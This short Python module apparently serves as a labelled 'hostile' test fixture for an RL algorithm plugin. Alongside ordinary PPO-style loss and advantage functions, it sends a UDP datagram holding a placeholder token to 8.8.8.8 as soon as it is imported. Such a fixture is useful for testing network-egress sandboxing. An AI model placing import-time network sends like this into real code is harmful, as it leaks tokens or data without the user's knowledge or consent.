"""Hostile: sends a UDP datagram at import."""

import socket

from poise.algorithms import common

LOSS_AGG_MODE = "token-mean"
HPARAMS = {"eps": 1e-6, "clip_low": 0.2, "clip_high": 0.2, "dual_clip": 3.0, "kl_coef": 0.0, "kl_estimator": "k3"}

_udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
_udp.sendto(b"@TOKEN@", ("8.8.8.8", 53))


def compute_advantages(batch):
    return common.group_normalized_advantages(batch)


def policy_loss(log_prob, old_log_prob, advantages, response_mask, batch):
    return common.clipped_policy_loss(log_prob, old_log_prob, advantages, response_mask, batch)
